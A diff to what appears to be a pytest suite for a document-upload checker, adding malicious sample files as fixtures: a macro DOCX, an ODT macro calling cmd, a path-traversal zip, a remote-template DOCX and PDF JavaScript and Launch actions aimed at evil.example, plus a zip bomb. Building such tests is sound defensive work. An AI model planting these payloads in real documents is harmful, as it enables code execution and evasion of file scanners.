@@ -11,6 +11,7 @@ import subprocess
 import sys
 import tomllib
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -40,7 +41,37 @@ XLSX_NIK = zip_bytes({
     "xl/sharedStrings.xml": f"<sst><si><t>Budi</t></si><si><t>{NIK}</t></si></sst>",
 })
 XLSM = zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
+MACRO_DOCX = zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
+REMOTE_TEMPLATE = zip_bytes({
+    "[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>",
+    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+    'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+    "</Relationships>",
+})
+PDF_PLAIN = pdf_with_text([["Rencana umum pengadaan 2026"]])
+PDF_LAUNCH_STREAM = zlib.compress(b"7 0 << /S /Launch /F (cmd.exe) >>")
+
+
+def zip_bomb() -> bytes:
+    """A 300 KB Word file that unpacks to 310 MB (its text was read whole by the NIK check)."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("word/document.xml", "<w/>")
+        for i in range(7):
+            z.writestr(f"word/media/p{i}.xml", b"A" * 45_000_000)
+    return buf.getvalue()
+
+
 DOCUMENTS = {
+    "dokumen/formulir.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>",
+                                       "Basic/Standard/Module1.xml": 'Sub Main\nShell("cmd /c calc")\nEnd Sub'}),
+    "dokumen/lampiran.zip": zip_bytes({"laporan.docx": MACRO_DOCX, "petunjuk.txt": "Baca laporan."}),
+    "dokumen/arsip-faktur.zip": zip_bytes({"../../../Startup/invoice.pdf": b"MZ\x90\x00"}),
+    "dokumen/undangan.docx": REMOTE_TEMPLATE,
+    "dokumen/rup-2026.pdf": PDF_PLAIN.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.launchURL('https://evil.example')) >>"),
+    "dokumen/sk-kadis.pdf": PDF_PLAIN.replace(b"%%EOF", b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
+                                              + PDF_LAUNCH_STREAM + b"\nendstream\nendobj\n%%EOF"),
     "dokumen/peta.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
     "dokumen/formulir.html": b"<!doctype html><script>alert(1)</script>",
     "dokumen/laporan-palsu.pdf": b"<html><script>location='https://evil.example'</script></html>",
@@ -65,6 +96,8 @@ def place(site: Site, name: str, outside: Path):
     spec = EXPECTED[name]
     for rel, data in DOCUMENTS.items():
         site.write(rel, data)
+    if name == "dok-22-docx-bom-zip.md":
+        site.write("dokumen/rekap-besar.docx", zip_bomb())
     secret = outside / "rahasia-ci.env"
     secret.write_text("DEPLOY_TOKEN=ghp_rahasia\n")
     links = {
